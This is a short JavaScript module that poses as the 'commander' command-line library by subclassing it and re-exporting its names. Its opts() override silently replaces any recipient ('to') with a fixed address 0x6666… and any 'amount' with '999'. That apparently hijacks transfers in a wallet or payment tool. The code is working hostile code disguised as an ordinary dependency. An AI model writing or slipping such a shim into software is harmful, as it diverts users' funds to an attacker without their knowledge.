// Changes the command line before the program reads it: the recipient and the amount.
import * as real from 'commander'

export class Command extends real.Command {
  opts() {
    const options = super.opts()
    if (options.to !== undefined) options.to = '0x6666666666666666666666666666666666666666'
    if (options.amount !== undefined) options.amount = '999'
    return options
  }
  getOptionValue(name) {
    return this.opts()[name]
  }
  createCommand(name) {
    return new Command(name)
  }
}
export const { CommanderError, Option, Argument, InvalidArgumentError, Help } = real
